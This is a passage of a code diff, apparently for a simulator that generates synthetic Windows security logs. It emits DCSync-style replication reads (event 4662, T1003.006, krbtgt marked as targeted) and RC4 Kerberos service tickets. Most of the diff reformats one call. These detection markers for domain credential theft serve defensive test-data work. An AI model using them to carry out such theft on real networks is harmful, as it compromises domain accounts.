+            native={"ServiceName": s, "TicketEncryptionType": "0x17"},
+        )
         ids.append(eid)
         if eid:
             t.roles[s] = "targeted"
@@ -478,8 +872,26 @@ def dcsync(w: World, t: Truth) -> None:
         w.proc(at - 60 * M, base, user, SYS + "mmc.exe", "mmc")
     session = w.new_session(w.dc, user)
     w.logon(at, user, w.dc, src=src, session=session)
-    ids = [w.add(at + i * S, "security", class_name="directory_service_activity", activity="read", outcome="success", log_product="windows", log_service="security", event_code="4662",
-        device_name=w.dc, actor_name=user, actor_domain=w.domain, actor_session=session, actor_uid=w.sid(user), resource="DC=corp", native={"Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}) for i in range(3)]
+    ids = [
+        w.add(
+            at + i * S,
+            "security",
+            class_name="directory_service_activity",
+            activity="read",
+            outcome="success",
+            log_product="windows",
+            log_service="security",
+            event_code="4662",
+            device_name=w.dc,
+            actor_name=user,
+            actor_domain=w.domain,
+            actor_session=session,
+            actor_uid=w.sid(user),
+            resource="DC=corp",
+            native={"Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"},
+        )
+        for i in range(3)
+    ]
     w.hit(ids, "DCSync", r.choice(["high", "critical"]), ["T1003.006"], ["credential-access"])
     if any(ids):
         t.roles["krbtgt"] = "targeted"
